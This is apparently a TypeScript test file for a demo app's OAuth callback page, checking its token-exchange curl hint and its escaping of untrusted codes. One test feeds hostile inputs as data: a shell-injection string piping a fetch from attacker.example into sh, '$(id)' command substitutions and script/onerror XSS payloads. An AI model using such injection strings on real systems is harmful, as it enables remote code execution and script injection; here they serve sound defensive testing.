import { expect, test } from "vitest";
import { callbackPage } from "../../../scripts/callback-page.ts";
import { developmentSealKey } from "../../../src/config.ts";
import { createServerKeys, parseMasterSecrets } from "../../../src/crypto/server-keys.ts";
import { makeDemoData } from "../../../src/operations/upkeep/demo-data.ts";
import { startMemoryApp } from "../../runners/memory-app.ts";
import { answerConsent, createPerson } from "../../support/person.ts";

const issuer = "http://localhost:8787";
const secrets = parseMasterSecrets(`1:${developmentSealKey}`);
if (typeof secrets === "string") throw new Error(secrets);
const demo = await makeDemoData(createServerKeys(secrets));

test("whoever installs the demonstration's integration is shown a request that makes tokens of the code", async () => {
	const app = await startMemoryApp({ ISSUER: issuer, SEAL_KEYS: `1:${developmentSealKey}`, DEMO_DATA: "on" });
	const ada = createPerson(issuer, (url, init) => app.fetch(new Request(url, init)));
	const [{ username, password } = { username: "", password: "" }] = demo.people;
	const link = `${issuer}/integrations/${demo.integration.client.id}`;
	const { pathname, search } = await answerConsent(ada, link, { username, password }, "Install");

	const page = callbackPage(pathname + search, issuer, demo) ?? "";
	const [, url = "", body = ""] =
		/curl -s (\S+) -H 'Content-Type: application\/json' -d '(\{[^']+\})'/.exec(page) ?? [];
	const headers = { "content-type": "application/json" };
	const answer = await app.fetch(new Request(url, { method: "POST", headers, body: body.replaceAll("&quot;", '"') }));
	expect([answer.status, Object.keys(await answer.json())]).toEqual([
		200,
		["accessToken", "refreshToken", "expiresIn", "tokenType"],
	]);
});

test("what a stranger's link brings is text on the page, and nothing of it gets into a shell", () => {
	for (const code of ["';curl attacker.example|sh;'", "<script>alert(1)</script>", "$(id)", "`id`", "a b", ""]) {
		const page = callbackPage(`/callback?code=${encodeURIComponent(code)}`, issuer, demo) ?? "";
		expect(page).toContain("brought no code");
		expect(page).not.toMatch(/curl|<script|attacker|\$\(id/);
	}
	const refused = callbackPage(`/callback?error=${encodeURIComponent("<img src=x onerror=alert(1)>")}`, issuer, demo);
	expect(refused).toContain("&lt;img");
	// What threw here would end the whole of `npm run dev`.
	for (const path of ["/elsewhere?code=x", "//", "//[", "http://["]) {
		expect(callbackPage(path, issuer, demo)).toBeNull();
	}
});

test("a client that has no secret is shown no request: its verifier is with who began", () => {
	expect(callbackPage("/cli/callback?code=lkc_x", issuer, demo)).not.toContain("curl");
	expect(callbackPage("/portal/callback?code=lkc_x", issuer, demo)).toContain("curl");
});
